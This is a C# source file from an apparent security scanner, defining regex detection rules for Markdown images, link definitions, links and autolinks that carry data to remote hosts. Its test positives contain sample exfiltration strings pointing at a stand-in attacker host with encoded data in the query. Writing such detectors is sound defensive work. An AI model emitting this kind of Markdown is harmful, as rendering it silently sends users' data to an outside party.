namespace ServerlessGuard.Detection.Rules.Markup;

/// <summary>Markdown that loads or sends something.</summary>
internal static class MarkdownMarkup
{
    /// <summary>Markdown image with a remote address: a client that renders it fetches it, and the address carries data away.</summary>
    public static Rule MarkdownRemoteImage { get; } = new()
    {
        Id = "SG-MRK-001",
        Kind = "markdown-image",
        Category = FindingCategory.Markup,
        Anchor = Anchor.StartsWith("!["),
        Pattern = @"!\[[^\]\n]{0,300}\]\(\s{0,4}<?(?:https?:)?(?://|\\\\)[^\s)>]+>?(?:\s{1,4}[""\x27(][^\n)]{0,100}[""\x27)])?\s{0,4}\)",
        IgnoreCase = true,
        MaxLength = 2048,
        LeftBoundary = false,
        RightBoundary = false,
        Stop = "\n",
        Confidence = 0.9,
        Positives = [
            "Look «![logo](https://evil.contoso.net/p.png?d=QW5uYQ)» here",
        ],
        Negatives = [
            "![diagram](./docs/flow.png)",
            "Wow![1]",
        ],
    };

    /// <summary>Markdown image by reference: its address is elsewhere.</summary>
    public static Rule MarkdownImageReference { get; } = new()
    {
        Id = "SG-MRK-002",
        Kind = "markdown-image",
        Category = FindingCategory.Markup,
        Anchor = Anchor.StartsWith("!["),
        Pattern = @"!\[[^\]\n]{0,120}\]\[[^\]\n]{1,60}\]",
        IgnoreCase = true,
        MaxLength = 190,
        LeftBoundary = false,
        RightBoundary = false,
        Confidence = 0.75,
        Positives = [
            "See «![chart][beacon]» below",
        ],
        Negatives = [
            "array![0] is a macro",
        ],
    };

    /// <summary>Markdown link definition with a remote address that carries data.</summary>
    public static Rule MarkdownDefinition { get; } = new()
    {
        Id = "SG-MRK-003",
        Kind = "markdown-reference",
        Category = FindingCategory.Markup,
        Anchor = Anchor.Contains(["]: http", "]: <http", "]: //"], 62),
        Pattern = @"\[[^\]\n]{1,60}\]:\s{1,4}<?(?:https?:)?(?://|\\\\)[^\s>]{1,100}[?=&][^\s>]{4,80}>?",
        IgnoreCase = true,
        MaxLength = 256,
        LeftBoundary = false,
        RightBoundary = false,
        Confidence = 0.7,
        Positives = [
            "«[beacon]: https://evil.contoso.net/p?d=QW5uYUBjb250b3Nv»\nend",
        ],
        Negatives = [
            "[docs]: https://contoso.com/docs",
        ],
    };

    /// <summary>Markdown link whose address carries data in its query or a long path.</summary>
    public static Rule MarkdownDataLink { get; } = new()
    {
        Id = "SG-MRK-004",
        Kind = "markdown-link",
        Category = FindingCategory.Markup,
        Anchor = Anchor.StartsWith("](http", "](<http", "](//"),
        Pattern = @"\]\(\s{0,4}<?(?:https?:)?(?://|\\\\)(?:[^\s)?>]+\?[^\s)>]*=[^\s)>]*|[^\s)>]{180,})>?[^\n)]*\)",
        IgnoreCase = true,
        MaxLength = 2048,
        LeftBoundary = false,
        RightBoundary = false,
        Stop = "\n",
        Check = CarriesData,
        Confidence = 0.65,
        Positives = [
            "click [here«](https://evil.contoso.net/c?d=QW5uYUBjb250b3NvLmNvbQ)» now",
        ],
        Negatives = [
            "[docs](https://contoso.com/docs)",
            "[page](https://contoso.com/a?p=2)",
        ],
    };

    /// <summary>Autolink with a long query.</summary>
    public static Rule AutolinkData { get; } = new()
    {
        Id = "SG-MRK-011",
        Kind = "autolink",
        Category = FindingCategory.Markup,
        Anchor = Anchor.StartsWith("<http", "<//"),
        Pattern = @"<https?://[^\s<>?]{1,300}\?[^\s<>]{24,}>",
        IgnoreCase = true,
        MaxLength = 1024,
        LeftBoundary = false,
        RightBoundary = false,
        Stop = "> \n",
        Confidence = 0.65,
        Positives = [
            "at «<https://evil.contoso.net/c?d=QW5uYUBjb250b3NvLmNvbTpzZWNyZXQ>» now",
        ],
        Negatives = [
            "<https://contoso.com/a?b=c>",
        ],
    };

    /// <summary>
    /// Whether a link's address has a query with a value of 8 units or more, or is 180 units long. A pattern that counts behind every
    /// equals sign fits no automaton.
    /// </summary>
    private static bool CarriesData(ReadOnlySpan<char> link)
    {
        const int LongValue = 8;
        const int LongAddress = 180;
        var (slashes, backslashes) = (link.IndexOf("//", StringComparison.Ordinal), link.IndexOf(@"\\", StringComparison.Ordinal));
        var start = slashes >= 0 && (backslashes < 0 || slashes < backslashes) ? slashes : backslashes;
        var address = link[(start + 2)..];
        var end = 0;
        while (end < address.Length && address[end] is not (')' or '>') && !char.IsWhiteSpace(address[end]))
        {
            end++;
        }

        address = address[..end];
        var query = address.IndexOf('?');
        var value = query > 0 ? address[query..].IndexOf('=') : -1;
        return address.Length >= LongAddress || (value >= 0 && address.Length - query - value - 1 >= LongValue);
    }
}
